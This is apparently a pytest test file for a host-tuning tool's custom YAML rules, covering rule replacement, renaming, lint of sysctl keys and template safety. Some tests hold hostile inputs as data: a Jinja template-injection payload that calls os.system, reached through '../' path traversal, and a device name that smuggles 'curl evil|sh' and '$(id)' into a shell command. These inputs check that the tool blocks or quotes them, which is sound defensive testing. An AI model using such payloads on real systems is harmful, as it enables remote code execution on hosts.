"""Rules of an administrator's own: where they come from, what they may replace, what happens to old
names.
"""

from __future__ import annotations

import json
import subprocess

import pytest

from hosttune.actions.examine import examine
from hosttune.engine.expressions.expression import compile_text
from hosttune.engine.policy.file import load_policy
from hosttune.engine.policy.policy import Policy
from hosttune.engine.rules.catalog import assemble_catalog, builtin_catalog, load_catalog
from hosttune.engine.rules.lint import checked_rule, key_faults, lint_faults, rule_faults
from hosttune.engine.rules.yamlio import load_document
from hosttune.errors import BadInput, HosttuneError, Where
from hosttune.rendering import render
from hosttune.values import HoldKind, Verdict
from tests.unit.fake_reader import FakeReader

RULE = """\
id: site-swappiness
title: Swap nearly never
risk: low
disturbs: nothing
since: "0.1"
gain: none
why: our nodes swap to a network disk
sources: [site handbook, chapter 3]
want:
  - sysctl: vm.swappiness
    at_most: 1
"""
FOLDER = "/etc/hosttune/rules.d"


def catalog(**rules: str):
    files = {f"{FOLDER}/{name.replace('_', '-')}.yaml": text for name, text in rules.items()}
    return load_catalog(FakeReader(files))


def replacing(text: str = RULE) -> str:
    return text.replace("title:", "replaces: memory-swappiness\ntitle:")


def test_custom_rule_is_there_and_runs_only_where_it_is_selected():
    found = catalog(site_swappiness=RULE)
    assert not found.rules["site-swappiness"].is_builtin
    assert all("site-swappiness" not in profile.rules for profile in found.profiles.values())


def test_custom_rule_that_replaces_takes_the_place_in_every_profile():
    found = catalog(site_swappiness=replacing())
    assert "memory-swappiness" not in found.rules
    assert "site-swappiness" in found.profiles["train-single"].rules
    assert (
        "site-swappiness" not in found.profiles["k8s-node"].rules
    )  # it leaves the replaced one out
    assert "memory-swappiness" not in found.profiles["inference-latency"].params
    assert "site-swappiness" not in found.profiles["inference-latency"].params


def test_policy_that_names_a_replaced_rule_means_the_new_one_and_is_told():
    found = catalog(site_swappiness=replacing())
    policy = load_policy(
        FakeReader({"/etc/hosttune/policy.yaml": "ignore: [memory-swappiness]"}), found
    )
    assert policy.ignore == ("site-swappiness",)
    assert policy.notes == (
        (
            "/etc/hosttune/policy.yaml: site-swappiness (/etc/hosttune/rules.d/site-swappiness.yaml) takes the place "
            "of memory-swappiness"
        ),
    )


@pytest.mark.parametrize(
    ("rules", "expected"),
    [
        (
            {"memory_swappiness": RULE.replace("site-swappiness", "memory-swappiness")},
            "a built-in rule is called memory-swappiness",
        ),
        ({"site_swappiness": replacing().replace("memory-swapp", "memory-swop")}, "did you mean memory-swappiness"),
        (
            {"site_a": replacing().replace("site-swappiness", "site-a"), "site_swappiness": replacing()},
            "site-a replaces memory-swappiness already",
        ),
        ({"site_swappiness": RULE.replace("vm.swappiness", "'{{ nope.x }}'")}, "nope"),
        ({"site_swappiness": RULE + "exposes: security\n"}, "has risk high"),
        ({"site_swappiness": RULE + "replaced_by: memory-swappiness\n"}, "only a deprecated rule has one"),
        ({"site_swappiness": RULE + "status: new\n"}, "is not one of the choices"),
    ],
)  # fmt: skip
def test_custom_rule_fault_names_the_way_out(rules, expected):
    with pytest.raises(BadInput) as caught:
        catalog(**rules)
    assert expected in str(caught.value)


def test_rules_of_a_typed_folder_come_besides_the_others(tmp_path):
    (tmp_path / "site-other.yaml").write_text(RULE.replace("site-swappiness", "site-other"))
    (tmp_path / "README").write_text("no rule")
    found = load_catalog(FakeReader({f"{FOLDER}/site-swappiness.yaml": RULE}), str(tmp_path))
    assert {"site-other", "site-swappiness"} <= set(found.rules)


def test_rule_in_both_folders_is_a_fault_that_names_the_other(tmp_path):
    (tmp_path / "site-swappiness.yaml").write_text(RULE)
    with pytest.raises(
        BadInput, match=f"the rule in {FOLDER}/site-swappiness.yaml is called site-swappiness"
    ):
        load_catalog(FakeReader({f"{FOLDER}/site-swappiness.yaml": RULE}), str(tmp_path))


def test_folder_that_is_not_there_is_trouble(tmp_path):
    with pytest.raises(HosttuneError, match="there is no such folder"):
        load_catalog(FakeReader(), str(tmp_path / "nope"))


def test_folder_that_cannot_be_listed_is_trouble():
    with pytest.raises(HosttuneError, match="cannot be listed: not root"):
        load_catalog(FakeReader(unreadable={FOLDER: "not root"}))


def renamed():
    rule = checked_rule(RULE + "renamed_from: [site-swap]\n", "site-swappiness.yaml")
    base = builtin_catalog()
    return assemble_catalog({**base.rules, rule.id: rule}, base.profiles)


def test_renamed_rule_is_found_by_its_old_name_with_a_note():
    found = renamed()
    policy = load_policy(
        FakeReader(
            {
                "/etc/hosttune/policy.yaml": "select: [site-swap]\nignore: [{rule: site-swap, reason: so}]"
            }
        ),
        found,
    )
    assert policy.select == ("site-swappiness",)
    assert policy.waivers[0].rule == "site-swappiness"
    assert policy.notes == ("/etc/hosttune/policy.yaml: site-swap is called site-swappiness now",)
    assert policy.overridden(found, ignore=("site-swap",)).ignore == ("site-swappiness",)


def test_deprecated_rule_still_runs_and_whoever_names_it_is_told():
    text = RULE + "status: deprecated\nreplaced_by: memory-swappiness\n"
    found = catalog(site_swappiness=text)
    policy = load_policy(
        FakeReader({"/etc/hosttune/policy.yaml": "select: [site-swappiness]"}), found
    )
    assert "site-swappiness" in {rule.id for rule in policy.select_rules(found)}
    assert policy.notes == (
        "/etc/hosttune/policy.yaml: site-swappiness is deprecated; use memory-swappiness",
    )


WORDS = """\
id: site-core-pattern
title: Core dumps go to a file
risk: low
disturbs: nothing
since: "0.1"
gain: none
why: a pipe starts a program as root
sources: [site handbook]
want:
  - sysctl: kernel.core_pattern
    exactly: core.%p
    message: 'kernel.core_pattern is {{ sysctl["kernel.core_pattern"].text }}, where the site wants a file'
    do: tell the security team
"""


def findings_of(text: str, files: dict[str, str], **reader):
    rule = checked_rule(text, "site-core-pattern.yaml")
    builtin = builtin_catalog()
    chosen = assemble_catalog({**builtin.rules, rule.id: rule}, builtin.profiles)
    door = FakeReader({"/var/lib/dpkg/status": "", **files}, **reader)
    found = examine(door, chosen, Policy(today="2026-01-01").only(rule.id)).plan().findings
    return [one for one in found if one.rule == rule.id]


def test_wish_speaks_in_words_of_its_own():
    (found,) = findings_of(WORDS, {"/proc/sys/kernel/core_pattern": "|/bin/x\n"})
    assert found.reason == "kernel.core_pattern is |/bin/x, where the site wants a file"
    assert found.evidence[:2] == ("kernel.core_pattern should be core.%p", "now |/bin/x")
    assert found.todo == "tell the security team"
    assert str(found.changes[0].address) == "sysctl:kernel.core_pattern"


def test_words_of_a_wish_stand_behind_what_holds_it():
    """The way out of the hold comes first."""
    (found,) = findings_of(
        WORDS.replace("risk: low", "risk: high"), {"/proc/sys/kernel/core_pattern": "|/bin/x\n"}
    )
    assert found.hold.kind is HoldKind.ABOVE_MAX_RISK
    assert found.todo.startswith("allow it with --max-risk high")
    assert found.todo.endswith("\ntell the security team")


def test_words_of_a_wish_say_nothing_where_it_is_met():
    files = {
        "/proc/sys/kernel/core_pattern": "core.%p\n",
        "/etc/sysctl.d/10-a.conf": "kernel.core_pattern=core.%p\n",
    }
    (found,) = findings_of(WORDS, files)
    assert (found.verdict, found.reason, found.todo) == (Verdict.OK, "", "")


def key_rule(key: str, more: str = "") -> str:
    return WORDS[: WORDS.index("want:")] + f"want:\n  - {{sysctl: {key}, exactly: 1{more}}}\n"


@pytest.mark.parametrize(
    ("key", "near"),
    [
        ("kernel.hung_task_timeout_sec", "kernel.hung_task_timeout_secs"),
        ("vm.swapiness", "vm.swappiness"),
        ("net.ipv4.conf.eth0.rp_fliter", "net.ipv4.conf.eth0.rp_filter"),
        ("lnet.debug", ""),
    ],
)
def test_lint_tells_a_sysctl_that_no_kernel_has(key, near):
    (fault,) = key_faults(load_document(key_rule(key), "site-core-pattern.yaml"))
    assert fault.where.field == "want[0].sysctl"
    assert f"no kernel is known to have {key}" in fault.message
    assert (f"did you mean {near}?" in fault.message) == bool(near)
    assert (
        rule_faults(load_document(key_rule(key), "site-core-pattern.yaml")) == []
    )  # no command stops for it


@pytest.mark.parametrize(
    "key",
    ["kernel.core_pattern", "net.ipv4.conf.eth0/1.rp_filter", "net.ipv4.neigh.default.gc_thresh3", "dev.raid.speed_limit_max",
     "net.bridge.bridge-nf-call-iptables", "kernel.yama.ptrace_scope", "kernel.apparmor_restrict_unprivileged_userns",
     "user.max_user_namespaces", "net.netfilter.nf_conntrack_max", "sunrpc.tcp_max_slot_table_entries", "fs.nfs.nlm_tcpport"],
)  # fmt: skip
def test_lint_knows_the_keys_of_interfaces_and_modules(key):
    assert key_faults(load_document(key_rule(key), "site-core-pattern.yaml")) == []


def test_lint_takes_the_key_of_a_module_that_is_named_and_looks_into_expressions():
    assert (
        key_faults(
            load_document(key_rule("lnet.debug", ", module: lnet"), "site-core-pattern.yaml")
        )
        == []
    )
    asked = WORDS.replace('sysctl["kernel.core_pattern"]', 'sysctl["kernel.core_patern"]')
    (fault,) = key_faults(load_document(asked, "site-core-pattern.yaml"))
    assert fault.where.field == "want[0].message"
    assert "did you mean kernel.core_pattern?" in fault.message


def test_image_gets_no_file_for_a_key_that_no_kernel_has():
    image = {"persistent_only": True, "kind": "root"}
    (found,) = findings_of(
        key_rule("kernel.hung_task_timeout_sec"), {"/etc/hostname": "h"}, **image
    )
    assert (found.verdict, found.changes) == (Verdict.UNKNOWN, ())
    assert "did you mean kernel.hung_task_timeout_secs?" in found.reason
    (found,) = findings_of(
        key_rule("lnet.debug", ", module: lnet"), {"/etc/hostname": "h"}, **image
    )
    assert [str(one.address) for one in found.changes] == [
        "file:/etc/sysctl.d/60-hosttune-site-core-pattern.conf"
    ]


def test_running_kernel_without_a_key_that_no_kernel_has_names_the_nearest():
    """A typo must not pass for a rule that does not apply."""
    (found,) = findings_of(key_rule("vm.swapiness"), {"/proc/sys/vm/swappiness": "60\n"})
    assert found.verdict is Verdict.UNKNOWN
    assert "did you mean vm.swappiness?" in found.reason
    for key, more in (("net.netfilter.nf_conntrack_max", ""), ("lnet.debug", ", module: lnet")):
        (found,) = findings_of(key_rule(key, more), {"/proc/sys/vm/swappiness": "60\n"})
        assert (found.verdict, found.reason) == (
            Verdict.NOT_APPLICABLE,
            f"this kernel has no {key}",
        )


def test_approval_of_a_policy_is_of_the_custom_rules_that_it_runs_too():
    def digest(text: str, **chosen) -> str:
        found = catalog(site_swappiness=text)
        policy = Policy(**chosen)
        return policy.digest_with(policy.select_rules(found))

    assert digest(RULE) == Policy().digest  # it does not run
    selected = {"select": ("site-swappiness",)}
    own = digest(RULE, **selected)
    assert own != Policy(**selected).digest
    assert digest(f"# a word about it\n{RULE}", **selected) == own
    assert digest(RULE.replace("at_most: 1", "at_most: 100"), **selected) != own


@pytest.mark.parametrize("form", ["{path}", "{{{{ '{path}' }}}}"])
def test_template_of_a_rule_is_one_of_ours_and_runs_nothing(tmp_path, form):
    """Rules come with images and records, too: their text would run with the rights of who looks at
    them.
    """
    (tmp_path / "evil.j2").write_text(
        "{{ cycler.__init__.__globals__.os.system('touch " + str(tmp_path / "ran") + "') }}SECRET"
    )
    path = f"{'../' * 12}{tmp_path}/evil.j2".replace("//", "/")
    wish = f'  - dropin: /etc/x.conf\n    template: "{form.format(path=path)}"\n'
    text = RULE[: RULE.index("  - sysctl")] + wish
    files = {
        f"{FOLDER}/site-swappiness.yaml": text,
        "/etc/hosttune/policy.yaml": "select: [site-swappiness]",
    }
    reader = FakeReader(files)
    try:
        found = load_catalog(reader)
        plan = examine(reader, found, load_policy(reader, found)).plan()
        (said,) = (one for one in plan.findings if one.rule == "site-swappiness")
        assert said.verdict is Verdict.UNKNOWN
    except BadInput as refused:
        said = refused
    assert "template must be one of" in str(said) or "is not one of the choices" in str(said)
    assert "SECRET" not in str(said)
    assert not (tmp_path / "ran").exists()


def test_values_of_a_template_run_nothing(monkeypatch):
    text = "{{ value.__class__ }}"
    monkeypatch.setitem(
        render.__globals__["_make_environment"]().loader.__dict__, "load_func", lambda _name: text
    )
    with pytest.raises(HosttuneError, match="SecurityError"):
        render("a-template.j2", value="")


def told_of(*wishes, others=""):
    """What a host says whose record brings a rule with these wishes."""
    text = RULE[: RULE.index("  - sysctl")] + "".join(f"  - {wish}\n" for wish in wishes)
    policy = f"select: [site-swappiness{others}]"
    reader = FakeReader(
        {f"{FOLDER}/site-swappiness.yaml": text, "/etc/hosttune/policy.yaml": policy}
    )
    found = load_catalog(reader)
    return {
        one.rule: one
        for one in examine(reader, found, load_policy(reader, found)).plan(prove=False).findings
    }


@pytest.mark.parametrize(
    ("wish", "said"),
    [
        ("{dropin: /x, template: \"{{ 'document.html.j2' }}\"}", "want[0].template: template must be one of "),
        ("{dropin: /x, template: nfs-read-ahead.conf.j2, trigger: \"{{ 'restart' }}\"}", "trigger must be one of daemon-reload"),
        ("{dropin: /x, template: nfs-read-ahead.conf.j2, activation: \"{{ 'zz' }}\"}", "activation must be one of "),
        ("{sysfs: /sys/block/sda/queue/scheduler, exactly: none, persist: \"{{ 'zz' }}\"}", "persist must be one of "),
        ('{sysctl: vm.swappiness, exactly: "{{ policy }}"}', "exactly of a sysctl must be a text, a number"),
        ("{dropin: /x, template: nfs-read-ahead.conf.j2, vars: {self: 1}}", "template nfs-read-ahead.conf.j2: "),
        ("{dropin: /x, template: nfs-read-ahead.conf.j2}", "template nfs-read-ahead.conf.j2: "),
    ],
)  # fmt: skip
def test_value_that_a_field_does_not_take_is_told_of_its_rule(wish, said):
    """Of an expression lint knows the type only; another value costs this rule, and nothing
    else.
    """
    findings = told_of(wish, others=", memory-swappiness")
    assert findings["site-swappiness"].verdict is Verdict.UNKNOWN
    assert said in findings["site-swappiness"].reason
    assert "memory-swappiness" in findings


@pytest.mark.parametrize(
    ("do", "parts"),
    [
        ("sudo ip link set {{ item.name }} mtu {{ item.size_bytes }}", ["item.name"]),
        ("sudo ip link set {{ shell_word(item.name) }} mtu {{ item.size_bytes + 1 }}", []),
        ('see "$(systemd-escape {{ item.name }})"', ["item.name"]),
        ("`cat {{ item.name }}` tells", ["item.name"]),
        ("{{ 'sudo rm ' + item.name if item.size_bytes > 1 else 'nothing ' + str(item.size_bytes) }}", ["item.name"]),
        ("sudo rm {{ join([item.name], ' ') }} {{ join([shell_word(d.name) for d in disks.all], ' ') }}", ["join([item.name], ' ')"]),
        ("sudo rm {{ join([d.name for d in disks.all], item.name) }}", ["d.name", "item.name"]),
        ("sudo rm {{ lower(shell_word(item.name)) }}", ["lower(shell_word(item.name))"]),
        ("look at {{ item.name }}", []),
    ],
)  # fmt: skip
def test_lint_tells_a_name_that_stands_in_a_command_without_quotes(do, parts):
    """What a device, a mount point or a package is called comes from the host; people copy the
    command.
    """
    text = (
        RULE[: RULE.index("want:")]
        + f"""for_each: disks.all
expect:
  - if: item.size_bytes == 0
    else: x
    do: {json.dumps(do)}
"""
    )
    document = load_document(text, "site-swappiness.yaml")
    assert not [fault for fault in rule_faults(document) if "size_bytes" not in fault.message]
    assert [fault.message for fault in lint_faults(document)] == [
        f"`{one}` is in a command without quotes" for one in parts
    ]


def test_shell_word_is_one_word_for_a_shell():
    name = "/data2;curl${IFS}evil|sh;#'$(id)`id`\n"
    text = compile_text("printf %s {{ shell_word(item) }}", Where("x.yaml")).evaluate(
        {"item": name}
    )
    assert (
        subprocess.run(["bash", "-c", text], capture_output=True, text=True, check=True).stdout
        == name
    )


def test_rule_with_more_wishes_than_can_be_compared_is_unknown_and_others_go_on():
    digits = "(0, 1, 2, 3, 4, 5, 6, 7, 8, 9)"
    items = f"[str(a) + str(b) {' '.join(f'for {name} in {digits}' for name in 'abcd')}]"
    text = (
        RULE[: RULE.index("want:")]
        + f"for_each: {json.dumps(items)}\nwant:\n  - {{sysctl: vm.swappiness, at_most: 1}}\n"
    )
    policy = "select: [site-swappiness, memory-swappiness]"
    reader = FakeReader(
        {f"{FOLDER}/site-swappiness.yaml": text, "/etc/hosttune/policy.yaml": policy}
    )
    found = load_catalog(reader)
    plan = examine(reader, found, load_policy(reader, found)).plan(prove=False)
    (own,) = (one for one in plan.findings if one.rule == "site-swappiness")
    assert own.verdict is Verdict.UNKNOWN
    assert "it takes more than" in own.reason
    assert any(one.rule == "memory-swappiness" for one in plan.findings)
